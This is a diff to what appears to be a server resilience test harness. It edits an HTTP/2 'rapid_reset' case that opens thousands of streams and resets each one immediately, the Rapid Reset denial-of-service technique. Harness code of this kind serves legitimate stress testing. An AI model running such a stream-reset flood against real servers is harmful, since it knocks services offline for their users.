@@ -100,13 +100,12 @@ def http2_empty_data(victim, transport):
 
 @attack(3, "http2", fast=True, memory=32 * MIB, cpu=4.0)
 def rapid_reset(victim, transport):
-    """Calls that are begun and reset at once, many in one write: one by one a fast server would be done with each before the next."""
+    """Calls that are begun and reset at once."""
     connection = http2.Http2(victim.addr)
     try:
-        for _ in range(20):
-            for _ in range(500):
-                number = connection.open(GET_USER.path, {}, "GET", end=True, flush=False)
-                connection.connection.reset_stream(number, 8)
+        for _ in range(5000):
+            number = connection.open(GET_USER.path, {}, "GET", end=True)
+            connection.connection.reset_stream(number, 8)
             connection.flush()
             connection.pump(0)
             if connection.goaway is not None or connection.closed:
